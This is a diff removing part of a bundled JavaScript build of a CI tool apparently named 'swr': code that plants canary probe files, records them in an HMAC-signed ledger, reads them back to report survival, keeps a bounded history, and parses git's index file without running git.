-function macOf(key, body) {
-    return (0,external_node_crypto_.createHmac)('sha256', key).update(canonical_canonicalBytes(body)).digest('hex');
-}
-function writeLedger(stateDir, ledger) {
-    const key = ledgerKey(stateDir);
-    const { mac: _old, ...body } = ledger;
-    const signed = { ...body, mac: macOf(key, body) };
-    atomic_writeFileAtomic(ledgerPath(stateDir), JSON.stringify(signed, null, 1) + '\n', { mode: 0o600 });
-}
-/** Throws unless `v` carries the MAC this state directory's key gives it. */
-function authenticate(stateDir, file, v) {
-    const refuse = (why) => bad(file, `${why}; nothing was removed (delete the ledger to plant again)`);
-    const key = readKey(stateDir);
-    if (!key)
-        throw refuse('cannot be authenticated: no ledger key in the state directory');
-    if (typeof v.mac !== 'string' || !/^[0-9a-f]{64}$/.test(v.mac))
-        throw refuse('fails authentication: it carries no MAC');
-    const { mac, ...body } = v;
-    let want;
-    try {
-        want = macOf(key, body);
-    }
-    catch {
-        throw refuse('fails authentication: it has no canonical form');
-    }
-    if (!(0,external_node_crypto_.timingSafeEqual)(Buffer.from(want, 'hex'), Buffer.from(mac, 'hex')))
-        throw refuse('fails authentication: not written by swr with this state directory, or altered');
-}
-function bad(file, why) {
-    return new errors_SwrError(`canary ledger ${file}: ${why}`, errors_EXIT.BAD_MANIFEST);
-}
-function isAnchored(v) {
-    const a = v;
-    return (typeof a === 'object' &&
-        a !== null &&
-        ['workspace', 'home', 'tmp', 'abs'].includes(a.anchor) &&
-        typeof a.rel === 'string' &&
-        !a.rel.split('/').includes('..'));
-}
-/**
- * Clean removes the directories a location lists as created (when empty), so a location may only
- * list its own directory and that directory's parents, and only where planting creates any: the
- * deep path and the temp directory carry this planting's name, a volatile directory is the named
- * directory of the workspace, --at paths are the caller's; the workspace and home create nothing.
- */
-function createdProblem(plantId, l) {
-    const under = (a, b) => a.anchor === b.anchor && (a.rel === b.rel || b.rel.startsWith(`${a.rel}/`));
-    if (!l.created.every(c => under(c, l.dir)))
-        return 'names a directory that is not the location';
-    if (l.created.length === 0)
-        return undefined;
-    const first = l.created[0];
-    const own = `swr-canary-${plantId}-`;
-    if (l.id === 'deep')
-        return first.anchor === 'workspace' && first.rel === `${own}deep`
-            ? undefined
-            : 'is not the deep path';
-    if (l.id === 'tmp')
-        return l.created.length === 1 && external_node_path_default().posix.basename(first.rel).startsWith(own)
-            ? undefined
-            : "is not this planting's temp directory";
-    if (l.id.startsWith('volatile:'))
-        return l.created.length === 1 &&
-            first.anchor === 'workspace' &&
-            first.rel === l.id.slice('volatile:'.length) &&
-            !first.rel.includes('/')
-            ? undefined
-            : 'is not the volatile directory';
-    return l.id.startsWith('at:') ? undefined : `lists directories, but ${l.id} creates none`;
-}
-function checkProbe(file, plantId, p, i, locations) {
-    const where = `probes[${i}]`;
-    if (!PROBE_CLASSES.includes(p?.class))
-        throw bad(file, `${where}.class is not a probe class`);
-    if (!locations.has(p.location))
-        throw bad(file, `${where}.location names no location`);
-    if (!isAnchored(p.path))
-        throw bad(file, `${where}.path is not an anchored path`);
-    // Clean unlinks what the ledger names: a ledger (say, restored from a poisoned cache) may only
-    // name files this planting's naming rule produces, never a user's file.
-    if (external_node_path_default().posix.basename(p.path.rel) !== probeName(plantId, p.class))
-        throw bad(file, `${where}.path is not a ${p.class} probe of planting ${plantId}`);
-    const e = p.expect;
-    if (typeof e !== 'object' ||
-        e === null ||
-        !['file', 'dir', 'symlink', 'hardlink'].includes(e.type))
-        throw bad(file, `${where}.expect.type is not file, dir, symlink or hardlink`);
-    if ((e.type === 'symlink' || e.type === 'hardlink') &&
-        typeof (e.type === 'symlink' ? e.target : e.peer) !== 'string')
-        throw bad(file, `${where}.expect has no link target`);
-    if (e.type === 'hardlink' && e.peer !== hardlinkPeerName(plantId))
-        throw bad(file, `${where}.expect.peer is not this planting's second name`);
-    if ((e.type === 'file' || e.type === 'hardlink') && !/^[0-9a-f]{64}$/.test(e.sha256))
-        throw bad(file, `${where}.expect.sha256 is not a sha256`);
-}
-/** The ledger, or undefined when nothing was planted; throws on a damaged ledger. */
-function readLedger(stateDir) {
-    const file = ledgerPath(stateDir);
-    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
-    if (!st)
-        return undefined;
-    if (!st.isFile())
-        throw bad(file, 'is not a regular file');
-    if (st.size > MAX_LEDGER_BYTES)
-        throw bad(file, `larger than ${MAX_LEDGER_BYTES} bytes`);
-    let v;
-    try {
-        v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
-    }
-    catch (e) {
-        throw bad(file, `not JSON (${e instanceof Error ? e.message : String(e)})`);
-    }
-    if (v?.format !== LEDGER_FORMAT)
-        throw bad(file, `format is not ${LEDGER_FORMAT}`);
-    if (typeof v.plant_id !== 'string' || !/^[0-9a-f]{8,32}$/.test(v.plant_id))
-        throw bad(file, 'plant_id is not a planting id');
-    if (!Array.isArray(v.locations) || !Array.isArray(v.probes))
-        throw bad(file, 'locations and probes must be arrays');
-    const ids = new Set();
-    v.locations.forEach((l, i) => {
-        if (typeof l?.id !== 'string' ||
-            !isAnchored(l.dir) ||
-            !Array.isArray(l.created) ||
-            !l.created.every(isAnchored))
-            throw bad(file, `locations[${i}] is malformed`);
-        const why = createdProblem(v.plant_id, l);
-        if (why)
-            throw bad(file, `locations[${i}].created ${why}`);
-        ids.add(l.id);
-    });
-    v.probes.forEach((p, i) => checkProbe(file, v.plant_id, p, i, ids));
-    // Shape first (errors name the field), then the MAC, before anything acts on the ledger.
-    authenticate(stateDir, file, v);
-    return v;
-}
-function removeLedger(stateDir) {
-    fs.rmSync(ledgerPath(stateDir), { force: true });
-}
-
-;// CONCATENATED MODULE: ./src/core/canary/locations.ts
-/**
- * Where probes go: the places a runner, cache or sandbox treats differently. The workspace root, a
- * path 20 directories deep (path-length and depth limits), every volatile directory that exists
- * or is asked for (node_modules, build, .cache, ...: the usual exclusions), $HOME, a fresh
- * directory in the temp dir, and every `--at` path (what a cache step saves).
- */
-
-
-
-
-
-
-const DEEP_LEVELS = 20;
-function isRealDir(abs) {
-    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
-    return st?.isDirectory() === true;
-}
-function checkAt(abs) {
-    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
-    if (!st)
-        return;
-    if (st.isSymbolicLink())
-        throw new errors_UsageError(`--at ${abs}: is a symlink; give the directory it points to`);
-    if (!st.isDirectory())
-        throw new errors_UsageError(`--at ${abs}: is not a directory`);
-}
-/** An --at path inside the workspace may not pass through a symlink there (the workspace is hostile). */
-function insideWorkspaceNoFollow(workspace, abs, at) {
-    const rel = relativeInside(workspace, abs);
-    if (rel === undefined || rel === '.')
-        return;
-    try {
-        resolveNoFollow(workspace, rel);
-    }
-    catch (e) {
-        if (e instanceof SymlinkRefusal)
-            throw new errors_UsageError(`--at ${at}: ${e.message}`);
-        throw e;
-    }
-}
-function planLocations(req) {
-    const out = [
-        { id: 'workspace', abs: req.workspace, make: 'exists' },
-        { id: 'deep', abs: external_node_path_default().join(req.workspace, `swr-canary-${req.plantId}-deep`), make: 'deep' }
-    ];
-    const names = new Set(req.volatile);
-    for (const name of diagnose_VOLATILE_DIRS)
-        if (isRealDir(external_node_path_default().join(req.workspace, name)))
-            names.add(name);
-    for (const name of [...names].sort()) {
-        if (!/^[^/\0]{1,255}$/.test(name) || name === '.' || name === '..')
-            throw new errors_UsageError(`--volatile ${JSON.stringify(name)}: give a directory name, not a path`);
-        const abs = external_node_path_default().join(req.workspace, name);
-        // A probe, the multi-GiB large one included, must never land outside through a planted link.
-        if (external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false })?.isSymbolicLink())
-            throw new errors_UsageError(`--volatile ${JSON.stringify(name)}: ${JSON.stringify(name)} in the workspace is a symlink; not planting through it`);
-        out.push({ id: `volatile:${name}`, abs, make: isRealDir(abs) ? 'exists' : 'mkdir' });
-    }
-    if (req.includeHome && isRealDir(req.home))
-        out.push({ id: 'home', abs: req.home, make: 'exists' });
-    if (req.includeTmp)
-        out.push({ id: 'tmp', abs: req.tmp, make: 'mkdtemp' });
-    for (const at of req.at) {
-        const abs = external_node_path_default().resolve(at);
-        if (abs === external_node_path_default().parse(abs).root)
-            throw new errors_UsageError(`--at ${at}: refusing the root directory`);
-        checkAt(abs);
-        insideWorkspaceNoFollow(req.workspace, abs, at);
-        // Named as anchored, so the same directory keeps one history row across runners and paths.
-        out.push({
-            id: `at:${showAnchored(anchor_anchor(abs, req))}`,
-            abs,
-            make: external_node_fs_default().existsSync(abs) ? 'exists' : 'mkdir'
-        });
-    }
-    // One location per directory: $HOME may be the workspace, an --at path may repeat another.
-    const seen = new Set();
-    return out.filter(l => l.make === 'mkdtemp' || !seen.has(l.abs) ? (seen.add(l.abs), true) : false);
-}
-/** Make the location exist; returns the directory and what was created, for undo and clean. */
-function materialize(loc, plantId, anchors, created) {
-    let dir = loc.abs;
-    const mine = [];
-    switch (loc.make) {
-        case 'exists':
-            break;
-        case 'mkdir': {
-            const first = external_node_fs_default().mkdirSync(loc.abs, { recursive: true, mode: 0o755 });
-            // mkdirSync returns the first directory it made: every level from there down is ours.
-            if (first)
-                for (let d = loc.abs;; d = external_node_path_default().dirname(d)) {
-                    mine.unshift(d);
-                    if (d === first)
-                        break;
-                }
-            break;
-        }
-        case 'deep': {
-            external_node_fs_default().mkdirSync(loc.abs, { mode: 0o755 });
-            mine.push(loc.abs);
-            for (let i = 2; i <= DEEP_LEVELS; i++) {
-                dir = external_node_path_default().join(dir, `d${String(i).padStart(2, '0')}`);
-                external_node_fs_default().mkdirSync(dir, { mode: 0o755 });
-                mine.push(dir);
-            }
-            break;
-        }
-        case 'mkdtemp':
-            // A fresh random directory: never a fixed name in a directory other users share.
-            dir = external_node_fs_default().mkdtempSync(external_node_path_default().join(loc.abs, `swr-canary-${plantId}-`));
-            mine.push(dir);
-            break;
-    }
-    created.push(...mine);
-    return {
-        location: { id: loc.id, dir: anchor_anchor(dir, anchors), created: mine.map(d => anchor_anchor(d, anchors)) },
-        abs: dir
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/canary/plant.ts
-/**
- * Planting: decide the locations, create every probe exclusively, and record them in the ledger.
- * All or nothing: when any probe cannot be created, everything this planting made is removed and
- * no ledger is written, so a failed plant leaves the machine as it was.
- */
-
-
-
-
-
-
-
-
-
-const DEFAULT_LARGE_BYTES = 64 * 1024 * 1024;
-/** Locations that only test names and depth: no large file there. */
-const NO_LARGE = new Set(['deep']);
-function classesFor(loc, largeBytes) {
-    return plantingOrder(PROBE_CLASSES.filter(c => c !== 'large' || (largeBytes > 0 && !NO_LARGE.has(loc.id))));
-}
-function undo(created) {
-    for (const p of [...created].reverse()) {
-        try {
-            const st = external_node_fs_default().lstatSync(p);
-            if (st.isDirectory())
-                external_node_fs_default().rmdirSync(p);
-            else
-                external_node_fs_default().unlinkSync(p);
-        }
-        catch {
-            // Already gone, or no longer ours to remove (not empty): leave it.
-        }
-    }
-}
-function retire(opts) {
-    const old = readLedger(opts.stateDir);
-    if (!old)
-        return undefined;
-    if (!old.read_at && !opts.replace)
-        throw new errors_UsageError(`a planting (${old.plant_id}, ${old.planted_at}) was never read: run "swr canary read" first, or plant with --replace to discard it`);
-    const cleaned = cleanLedger(old, opts.anchors);
-    return { plant_id: old.plant_id, removed: cleaned.removed.length };
-}
-function plantCanaries(opts) {
-    const largeBytes = opts.largeBytes ?? DEFAULT_LARGE_BYTES;
-    const plantId = opts.plantId ?? (0,external_node_crypto_.randomBytes)(4).toString('hex');
-    // The old planting goes first: it may have created a directory this one would otherwise reuse.
-    const replaced = retire(opts);
-    const planned = planLocations({
-        ...opts.anchors,
-        plantId,
-        at: opts.at ?? [],
-        volatile: opts.volatile ?? [],
-        includeHome: opts.includeHome ?? true,
-        includeTmp: opts.includeTmp ?? true
-    });
-    const created = [];
-    const locations = [];
-    const probes = [];
-    try {
-        for (const p of planned) {
-            const { location: loc, abs: dir } = materialize(p, plantId, opts.anchors, created);
-            locations.push(loc);
-            for (const cls of classesFor(loc, largeBytes)) {
-                const { name, expect } = plantProbe(cls, { plantId, dir, largeBytes, created });
-                probes.push({
-                    class: cls,
-                    location: loc.id,
-                    path: anchor_anchor(external_node_path_default().join(dir, name), opts.anchors),
-                    expect
-                });
-            }
-        }
-        const ledger = {
-            format: LEDGER_FORMAT,
-            plant_id: plantId,
-            planted_at: (opts.now ?? new Date()).toISOString(),
-            context: opts.context,
-            large_bytes: largeBytes,
-            locations,
-            probes
-        };
-        writeLedger(opts.stateDir, ledger);
-        return replaced ? { ledger, replaced } : { ledger };
-    }
-    catch (err) {
-        undo(created);
-        if (err instanceof errors_SwrError)
-            throw err;
-        // A disk error (a directory the disk had no room for) keeps the one line and exit of every
-        // write of swr; only the planting's own failures are worded here.
-        const disk = errors_diskError(err);
-        if (disk)
-            throw disk;
-        const e = err;
-        const code = errors_errnoCode(err);
-        throw new errors_SwrError(code === 'EEXIST'
-            ? `canary plant: ${e.path} already exists: planting never replaces a file (nothing was planted)`
-            : `canary plant: ${[e.syscall, e.path].filter(Boolean).join(' ')}: ${code ?? e.message} (nothing was planted)`, errors_EXIT.UNREPAIRABLE);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/history/history.ts
-/**
- * The history: one JSON line per observation (a canary read, a recorded check), in the private
- * state directory. Bounded: when the current file reaches its limit it becomes `history.1.jsonl`
- * (replacing the previous generation), so the history never grows without end and the newest
- * records are never the ones dropped. Appends use O_APPEND with one write per record, so
- * concurrent writers interleave whole lines; a line that does not parse is skipped on read.
- */
-
-
-
-
-const HISTORY_FILE = 'history.jsonl';
-const HISTORY_ROTATED = 'history.1.jsonl';
-const history_DEFAULT_LIMITS = {
-    maxRecords: 1000,
-    maxBytes: 4 * 1024 * 1024
-};
-/** One check's record: the status of every entry it checked (for stats and `swr why`). */
-function checkRecord(report, manifest, context) {
-    return {
-        v: 1,
-        kind: 'check',
-        time: report.timing.started,
-        context,
-        manifest: manifest.file,
-        digest: manifest.digest,
-        entries: Object.fromEntries(report.results.map(f => [f.id, f.status]))
-    };
-}
-function countLines(file) {
-    const buf = external_node_fs_default().readFileSync(file);
-    let n = 0;
-    for (let i = buf.indexOf(10); i !== -1; i = buf.indexOf(10, i + 1))
-        n++;
-    return n;
-}
-function rotateIfFull(dir, limits) {
-    const file = external_node_path_default().join(dir, HISTORY_FILE);
-    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
-    if (!st)
-        return;
-    if (st.size < limits.maxBytes && countLines(file) < limits.maxRecords)
-        return;
-    external_node_fs_default().renameSync(file, external_node_path_default().join(dir, HISTORY_ROTATED));
-}
-function appendHistory(stateDir, record, limits = {}) {
-    const l = { ...history_DEFAULT_LIMITS, ...limits };
-    const dir = state_dir_ensurePrivateDir(stateDir);
-    rotateIfFull(dir, l);
-    appendRecord(external_node_path_default().join(dir, HISTORY_FILE), JSON.stringify(record) + '\n', {
-        create: true,
-        mode: 0o600
-    });
-}
-function isRecord(v) {
-    const r = v;
-    if (typeof r !== 'object' || r === null || r.v !== 1 || typeof r.time !== 'string')
-        return false;
-    if (Number.isNaN(Date.parse(r.time)))
-        return false;
-    if (r.kind === 'canary')
-        return typeof r.classes === 'object' && typeof r.locations === 'object';
-    if (r.kind === 'check')
-        return typeof r.entries === 'object' && typeof r.manifest === 'string';
-    return false;
-}
-function readHistory(stateDir) {
-    const out = { records: [], skipped: 0 };
-    for (const name of [HISTORY_ROTATED, HISTORY_FILE]) {
-        let text;
-        try {
-            text = external_node_fs_default().readFileSync(external_node_path_default().join(stateDir, name), 'utf8');
-        }
-        catch {
-            continue;
-        }
-        for (const line of text.split('\n')) {
-            if (!line.trim())
-                continue;
-            try {
-                const v = JSON.parse(line);
-                if (isRecord(v))
-                    out.records.push(v);
-                else
-                    out.skipped++;
-            }
-            catch {
-                out.skipped++;
-            }
-        }
-    }
-    out.records.sort((a, b) => Date.parse(a.time) - Date.parse(b.time));
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/core/canary/inspect.ts
-/**
- * Reading one probe back: intact, altered (naming each attribute that changed) or lost. Nothing is
- * followed out of place: the probe is lstat'ed, and a link's target is resolved only to learn
- * whether it still leads to the kind of thing it was planted to.
- */
-
-
-
-function kindOf(st) {
-    if (st.isSymbolicLink())
-        return 'symlink';
-    if (st.isDirectory())
-        return 'dir';
-    if (st.isFile())
-        return 'file';
-    return 'other';
-}
-function inspect_hashFile(abs) {
-    const hash = (0,external_node_crypto_.createHash)('sha256');
-    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
-    try {
-        const buf = Buffer.allocUnsafe(1 << 20);
-        for (let n; (n = external_node_fs_default().readSync(fd, buf, 0, buf.length, null)) > 0;)
-            hash.update(buf.subarray(0, n));
-    }
-    finally {
-        external_node_fs_default().closeSync(fd);
-    }
-    return hash.digest('hex');
-}
-class Findings {
-    attributes = [];
-    details = [];
-    add(a, detail) {
-        if (!this.attributes.includes(a))
-            this.attributes.push(a);
-        this.details.push(detail);
-    }
-    outcome() {
-        return this.attributes.length === 0
-            ? { state: 'intact' }
-            : { state: 'altered', attributes: this.attributes, detail: this.details.join('; ') };
-    }
-}
-function checkMode(f, want, st) {
-    const wantBits = parseInt(want, 8);
-    const got = st.mode & 0o7777;
-    if (got === wantBits)
-        return;
-    const shown = `mode 0${got.toString(8).padStart(3, '0')} (want ${want})`;
-    // Losing a wanted exec bit is its own finding: it is what breaks scripts after a restore.
-    if ((wantBits & 0o111) !== 0 && (got & wantBits & 0o111) !== (wantBits & 0o111))
-        f.add('exec-bit', shown);
-    else
-        f.add('mode', shown);
-}
-function checkContent(f, abs, st, size, digest) {
-    if (st.size !== size) {
-        f.add('size', `${st.size.toLocaleString('en-US')} bytes (want ${size.toLocaleString('en-US')})`);
-        return;
-    }
-    if (inspect_hashFile(abs) !== digest)
-        f.add('content', 'same size, different content');
-}
-function targetKind(abs) {
-    try {
-        return kindOf(external_node_fs_default().statSync(abs));
-    }
-    catch {
-        return undefined;
-    }
-}
-/** Compare the probe at `abs` (and a hard link's peer beside it) with what was planted. */
-function inspectProbe(probe, abs) {
-    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
-    const want = probe.expect;
-    const f = new Findings();
-    if (want.type === 'hardlink') {
-        const peer = external_node_fs_default().lstatSync(external_node_path_default().join(external_node_path_default().dirname(abs), want.peer), { throwIfNoEntry: false });
-        if (!st && !peer)
-            return { state: 'lost' };
-        if (!st || !peer) {
-            f.add('hardlink', `${!st ? 'first' : 'second'} name lost`);
-            return f.outcome();
-        }
-        if (!st.isFile()) {
-            f.add('type', `a ${kindOf(st)} (want file)`);
-            return f.outcome();
-        }
-        if (st.ino !== peer.ino || st.dev !== peer.dev)
-            f.add('hardlink', 'the two names are separate files now');
-        checkMode(f, want.mode, st);
-        checkContent(f, abs, st, want.size, want.sha256);
-        return f.outcome();
-    }
-    if (!st)
-        return { state: 'lost' };
-    const expectedKind = want.type;
-    if (kindOf(st) !== expectedKind) {
-        f.add('type', `a ${kindOf(st)} (want ${expectedKind})`);
-        return f.outcome();
-    }
-    switch (want.type) {
-        case 'file':
-            checkMode(f, want.mode, st);
-            checkContent(f, abs, st, want.size, want.sha256);
-            break;
-        case 'dir':
-            checkMode(f, want.mode, st);
-            break;
-        case 'symlink': {
-            const target = external_node_fs_default().readlinkSync(abs);
-            if (target !== want.target)
-                f.add('link-target', `points to ${target} (want ${want.target})`);
-            const reached = targetKind(abs);
-            if (reached === undefined)
-                f.add('dangling', `${target} does not exist`);
-            else if (reached !== want.resolves && target === want.target)
-                f.add('link-target', `leads to a ${reached} (want ${want.resolves})`);
-            break;
-        }
-    }
-    return f.outcome();
-}
-
-;// CONCATENATED MODULE: ./src/core/canary/read.ts
-/**
- * Reading a planting back: each probe compared with the ledger, tallied by class and by location,
- * the ledger marked read, and one record appended to the history (canary reads always record:
- * survival over many runs is the point).
- */
-
-
-
-
-
-
-const CANARY_READ_SCHEMA = 'swr.canary-read/1';
-function tally() {
-    return { intact: 0, altered: 0, lost: 0 };
-}
-function readCanaries(opts) {
-    const ledger = readLedger(opts.stateDir);
-    if (!ledger)
-        throw new errors_SwrError('no canary planting to read: run "swr canary plant" first', errors_EXIT.BAD_MANIFEST);
-    const readAt = (opts.now ?? new Date()).toISOString();
-    const reading = {
-        schema: CANARY_READ_SCHEMA,
-        plant_id: ledger.plant_id,
-        planted_at: ledger.planted_at,
-        read_at: readAt,
-        planted_by: ledger.context,
-        read_by: opts.context,
-        reread: ledger.read_at !== undefined,
-        totals: tally(),
-        classes: {},
-        locations: {},
-        probes: []
-    };
-    for (const p of ledger.probes) {
-        const outcome = inspectProbe(p, resolveAnchored(p.path, opts.anchors));
-        reading.probes.push({
-            class: p.class,
-            location: p.location,
-            path: showAnchored(p.path),
-            outcome
-        });
-        const cls = (reading.classes[p.class] ??= { ...tally(), attributes: {} });
-        const loc = (reading.locations[p.location] ??= tally());
-        for (const t of [reading.totals, cls, loc])
-            t[outcome.state]++;
-        if (outcome.state === 'altered')
-            for (const a of outcome.attributes)
-                cls.attributes[a] = (cls.attributes[a] ?? 0) + 1;
-    }
-    // Classes in their canonical order, whatever order the ledger listed probes in.
-    reading.classes = Object.fromEntries(PROBE_CLASSES.flatMap(c => (reading.classes[c] ? [[c, reading.classes[c]]] : [])));
-    writeLedger(opts.stateDir, { ...ledger, read_at: ledger.read_at ?? readAt });
-    appendHistory(opts.stateDir, canaryRecord(reading), opts.history);
-    return reading;
-}
-function canaryRecord(r) {
-    const strip = (t) => ({ intact: t.intact, altered: t.altered, lost: t.lost });
-    return {
-        v: 1,
-        kind: 'canary',
-        time: r.read_at,
-        context: r.read_by,
-        plant_id: r.plant_id,
-        planted_at: r.planted_at,
-        classes: Object.fromEntries(Object.entries(r.classes).map(([k, t]) => [k, strip(t)])),
-        locations: r.locations
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/git/index-file.ts
-/**
- * The paths git tracks, read from the repository's index file as data. Running `git ls-files`
- * would run the workspace's own configuration (a `core.fsmonitor` there is a command, and
- * `.git/config` is a file that a cache restore or an earlier step can write), inside a step that
- * holds the job's secrets. Reading the index runs nothing.
- *
- * Handled: index versions 2, 3 and 4 (prefix-compressed names), SHA-1 and SHA-256 repositories,
- * sparse directory entries (reported as the directory, with a trailing "/"), a `.git` file that
- * points at the real git directory (worktrees, submodules), and a split index (the shared index's
- * entries are included too: a path it deleted may then count as tracked, which only widens where
- * an annotation may point). Anything that does not parse gives the empty set: tracked paths are
- * an aid to annotations, never a decision.
- */
-
-
-
-/** A larger index is not read (the Linux kernel's is ~10 MB). */
-const index_file_MAX_INDEX_BYTES = 256 * 1024 * 1024;
-const MAX_POINTER_BYTES = 4096;
-/** The git directory for a work tree whose top is `top`, or undefined. Never follows `.git` when it is a link. */
-function gitDirOf(top) {
-    const dotGit = external_node_path_default().join(top, '.git');
-    const st = external_node_fs_default().lstatSync(dotGit, { throwIfNoEntry: false });
-    if (!st)
-        return undefined;
-    if (st.isDirectory())
-        return dotGit;
-    if (!st.isFile() || st.size > MAX_POINTER_BYTES)
-        return undefined;
-    const m = /^gitdir: (.+?)\r?\n?$/.exec(external_node_fs_default().readFileSync(dotGit, 'utf8'));
-    return m?.[1] ? external_node_path_default().resolve(top, m[1]) : undefined;
-}
-/** The nearest directory at or above `start` holding `.git`. */
-function workTreeTop(start) {
-    for (let dir = external_node_path_default().resolve(start);; dir = external_node_path_default().dirname(dir)) {
-        if (external_node_fs_default().lstatSync(external_node_path_default().join(dir, '.git'), { throwIfNoEntry: false }))
-            return dir;
-        if (external_node_path_default().dirname(dir) === dir)
-            return undefined;
-    }
-}
-function index_file_readBounded(file) {
-    let fd;
-    try {
-        fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
-    }
-    catch {
-        return undefined;
-    }
-    try {
-        const st = external_node_fs_default().fstatSync(fd);
-        if (!st.isFile() || st.size > index_file_MAX_INDEX_BYTES)
-            return undefined;
-        return external_node_fs_default().readFileSync(fd);
-    }
-    finally {
-        external_node_fs_default().closeSync(fd);
-    }
-}
-/** The repository's hash length, from its configuration read as text (nothing in it runs). */
-function hashBytes(gitDir) {
-    const commonFile = external_node_path_default().join(gitDir, 'commondir');
-    let configDir = gitDir;
-    const common = external_node_fs_default().lstatSync(commonFile, { throwIfNoEntry: false });
-    if (common?.isFile() && common.size < MAX_POINTER_BYTES)
-        configDir = external_node_path_default().resolve(gitDir, external_node_fs_default().readFileSync(commonFile, 'utf8').trim());
-    const config = index_file_readBounded(external_node_path_default().join(configDir, 'config'));
-    return config && /^\s*objectformat\s*=\s*sha256\s*$/im.test(config.toString('utf8')) ? 32 : 20;
-}
-/** git's offset varint (index v4 name compression). */
-function varint(buf, at) {
-    let c = buf[at++];
-    let value = c & 127;
-    while (c & 128) {
-        c = buf[at++];
-        value = ((value + 1) << 7) | (c & 127);
-    }
-    return [value, at];
-}
-const ENTRY_FIXED = 40; // ctime, mtime, dev, ino, mode, uid, gid, size: ten 32-bit words
-const EXTENDED = 0x4000;
-const S_IFMT = 0o170000;
-const S_IFDIR = 0o040000;
-/** Parse one index file; throws on anything malformed. */
-function parseIndex(buf, hashLen) {
-    if (buf.length < 12 + hashLen || buf.toString('latin1', 0, 4) !== 'DIRC')
-        throw new Error('not an index');
-    const version = buf.readUInt32BE(4);
-    if (version < 2 || version > 4)
-        throw new Error(`index version ${version}`);
-    const trailer = buf.subarray(buf.length - hashLen);
-    const body = buf.subarray(0, buf.length - hashLen);
-    // index.skipHash writes a zero trailer; any other trailer must be the body's hash.
-    if (trailer.some(b => b !== 0)) {
-        const algo = hashLen === 32 ? 'sha256' : 'sha1';
-        if (!(0,external_node_crypto_.createHash)(algo).update(body).digest().equals(trailer))
-            throw new Error('bad checksum');
-    }
-    const count = buf.readUInt32BE(8);
-    const paths = [];
-    let at = 12;
-    let prev = Buffer.alloc(0);
-    for (let i = 0; i < count; i++) {
-        const start = at;
-        const mode = body.readUInt32BE(at + 24);
-        at += ENTRY_FIXED + hashLen;
-        const flags = body.readUInt16BE(at);
-        at += 2;
-        if (flags & EXTENDED) {
-            if (version < 3)
-                throw new Error('extended flag in a version 2 index');
-            at += 2;
-        }
-        let name;
-        if (version === 4) {
-            const [strip, next] = varint(body, at);
-            if (strip > prev.length)
-                throw new Error('bad name compression');
-            const end = body.indexOf(0, next);
-            if (end < 0)
-                throw new Error('unterminated name');
-            name = Buffer.concat([prev.subarray(0, prev.length - strip), body.subarray(next, end)]);
-            at = end + 1;
-        }
-        else {
-            const nul = body.indexOf(0, at);
-            if (nul < 0)
-                throw new Error('unterminated name');
-            name = body.subarray(at, nul);
-            // Entries are padded with 1-8 NULs to a multiple of eight bytes.
-            at = start + ((nul - start + 8) & ~7);
-        }
-        if (at > body.length)
-            throw new Error('entry past the end');
-        prev = name;
-        const p = name.toString('utf8');
-        paths.push((mode & S_IFMT) === S_IFDIR && !p.endsWith('/') ? `${p}/` : p);
-    }
-    return { paths, ...sharedIndexOf(body, at) };
-}
-/** The split index's `link` extension names the shared index by its hash. */
-function sharedIndexOf(body, at) {
-    while (at + 8 <= body.length) {
-        const sig = body.toString('latin1', at, at + 4);
-        const size = body.readUInt32BE(at + 4);
-        if (sig === 'link' && size >= 20) {
-            const len = size >= 32 && size % 32 === 0 ? 32 : 20;
-            return { shared: body.toString('hex', at + 8, at + 8 + len) };
-        }
-        at += 8 + size;
-    }
-    return {};
-}
-/**
- * Paths tracked by the git work tree that holds `root`, relative to `root` with forward slashes
- * (paths outside `root` are left out). Empty when there is no repository or its index cannot be
- * read.
- */
-function trackedPaths(root) {
-    const top = workTreeTop(root);
-    const gitDir = top === undefined ? undefined : gitDirOf(top);
-    if (top === undefined || gitDir === undefined)
-        return new Set();
-    try {
-        const hashLen = hashBytes(gitDir);
-        const index = index_file_readBounded(external_node_path_default().join(gitDir, 'index'));
-        if (!index)
-            return new Set();
-        const own = parseIndex(index, hashLen);
-        let all = own.paths;
-        if (own.shared && /^[0-9a-f]+$/.test(own.shared)) {
-            const shared = index_file_readBounded(external_node_path_default().join(gitDir, `sharedindex.${own.shared}`));
-            if (shared)
-                all = [...parseIndex(shared, hashLen).paths, ...all];
-        }
-        const prefix = external_node_path_default().relative(top, external_node_path_default().resolve(root)).split((external_node_path_default()).sep).join('/');
-        const under = prefix === '' ? '' : `${prefix}/`;
-        const out = new Set();
-        for (const p of all)
-            if (p.startsWith(under))
-                out.add(p.slice(under.length));
-        return out;
-    }
-    catch {
-        return new Set();
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/history/advice.ts
-
-/** Only a pattern is worth a line: at least two losses, and at least 30% of the window. */
-function isPattern(c) {
-    return c.lost >= 2 && c.lost / c.of >= 0.3;
-}
-function historyAdvice(e, c) {
-    if (!isPattern(c))
-        return undefined;
-    const ideas = [];
-    if (e.tier > 0)
-        ideas.push(`a lower tier than ${e.tier} so it is restored before what needs it`);
-    if (!restoreSources(e).some(s => typeof s !== 'string'))
-        ideas.push('a cache source ("restore": [{"cache": {...}}, ...]) so it comes back from the Actions cache');
-    if (e.kind === 'file' && !e.escrow && e.expect.size <= 256 * 1024)
-        ideas.push('escrow ("swr escrow --only ' + e.id + '") so it restores without a recipe');
-    const base = `damaged in ${c.lost} of the last ${c.of} recorded checks: this platform does not keep it`;
-    return ideas.length > 0 ? `${base}; consider ${ideas.join(', or ')}` : base;
-}
-
-;// CONCATENATED MODULE: ./src/core/history/context.ts
-/**
- * Who made an observation: enough of the runner, job and machine to tell the platforms apart
- * when their survival differs. Built from an environment the shell passes in.
- */
-
